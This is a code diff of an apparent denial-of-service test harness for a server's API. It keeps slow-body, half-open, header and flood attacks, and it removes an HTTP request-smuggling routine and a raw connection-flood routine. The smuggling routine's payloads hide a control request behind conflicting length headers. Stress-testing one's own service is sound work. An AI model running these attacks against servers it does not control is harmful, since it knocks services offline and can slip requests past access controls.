@@ -159,8 +159,12 @@ def _endless(attacker: Attacker, piece: bytes) -> None:
         attacker.connect(act)
 
 
-def slow_body(attacker: Attacker) -> None:
-    """Send a body a byte a second."""
+def slow_bodies(attacker: Attacker) -> None:
+    """Send bodies a byte a second, over 200 connections."""
+    _together(attacker, SLOW, _slow_body)
+
+
+def _slow_body(attacker: Attacker) -> None:
 
     def act(connection: socket.socket) -> None:
         connection.sendall(attacker.headers("activate-node", 4000))
@@ -173,11 +177,6 @@ def slow_body(attacker: Attacker) -> None:
 
     while attacker.goes_on():
         attacker.connect(act)
-
-
-def slow_bodies(attacker: Attacker) -> None:
-    """Do so over 200 connections."""
-    _together(attacker, SLOW, slow_body)
 
 
 def half_open(attacker: Attacker) -> None:
@@ -194,30 +193,6 @@ def half_open(attacker: Attacker) -> None:
             attacker.note("connections")
     for connection in held:
         connection.close()
-
-
-def smuggling(attacker: Attacker) -> None:
-    """Give both lengths, or two, and hide a second request in the first one's body."""
-    hidden = b"POST /v1/control/start-run HTTP/1.1\r\nHost: a\r\nContent-Length: 0\r\n\r\n"
-    chunk = b"%x\r\n%s\r\n0\r\n\r\n" % (len(hidden), hidden)
-    forms = (
-        (b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n", chunk),
-        (b"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n", chunk),
-        (b"Content-Length: 0\r\nContent-Length: 70\r\n", hidden),
-        (b"Transfer-Encoding: xchunked\r\n", chunk),
-        (b"Transfer-Encoding: chunked\r\n", chunk),
-    )
-    head = b"POST /v1/fleet/pull-messages HTTP/1.1\r\nHost: a\r\n" + CONTENT_TYPE.encode()
-    while attacker.goes_on():
-        for lengths, body in forms:
-
-            def act(connection: socket.socket, request: bytes = lengths + b"\r\n" + body) -> None:
-                connection.sendall(head + request)
-                attacker.note(_status(connection))
-                attacker.note(f"then {_status(connection)}")
-
-            attacker.connect(act, timeout=2.0)
-        time.sleep(0.1)
 
 
 def bombs(attacker: Attacker) -> None:
@@ -267,32 +242,17 @@ def _flood(attacker: Attacker) -> None:
         attacker.connect(act, timeout=60.0)
 
 
-def connection_flood(attacker: Attacker) -> None:
-    """Begin connections as fast as this host can, and end them at once."""
-    address = attacker.host, attacker.port
-    while attacker.goes_on():
-        with contextlib.suppress(OSError):
-            socket.create_connection(address, 1.0, (attacker.source, 0)).close()
-            attacker.note("connections")
-
-
 ATTACKS: dict[str, Callable[[Attacker], None]] = {
     attack.__name__: attack
     for attack in (
         endless_header,
         many_headers,
-        slow_body,
         slow_bodies,
         half_open,
-        smuggling,
         bombs,
         member_flood,
     )
 }
-
-
-# What no server stops that has to accept a connection before it can end it.
-FIREWALLS: dict[str, Callable[[Attacker], None]] = {"connection_flood": connection_flood}
 
 
 def main(
@@ -318,7 +278,7 @@ def main(
 
     signal.signal(signal.SIGTERM, end)
     print("begins", flush=True)
-    Thread(target={**ATTACKS, **FIREWALLS}[name], args=(attacker,), daemon=True).start()
+    Thread(target=ATTACKS[name], args=(attacker,), daemon=True).start()
     while True:
         time.sleep(1.0)  # Until whoever started it ends it.
 
